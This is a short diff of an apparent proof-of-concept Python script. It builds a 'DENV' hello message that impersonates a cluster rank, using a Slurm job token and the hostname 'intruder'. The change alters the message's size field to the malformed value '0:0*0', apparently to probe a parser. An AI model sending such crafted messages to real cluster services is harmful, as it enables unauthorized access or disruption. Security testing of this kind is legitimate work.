@@ -86,7 +86,7 @@ def cred(token, rank, nonce_s, nonce_c):
 def hello(token, rank, nonce_c, auth):
     body = (s(token) + struct.pack(">IIIIIIBH", rank, 2, 0, 1, 1, 4242, 1, 1)
             + s(b"intruder") + s(b"10.77.0.1") + s(b"eth0")
-            + s(b"check float32 count=262147 sizes=0:0 iters=0 warmup=0") + nonce_c + s(auth))
+            + s(b"check float32 count=262147 sizes=0:0*0 iters=0 warmup=0") + nonce_c + s(auth))
     return b"DENV" + struct.pack(">HHI", 1, 1, len(body)) + body
 tok = ("slurm:%s.0" % jobid).encode()
 nc = os.urandom(16)
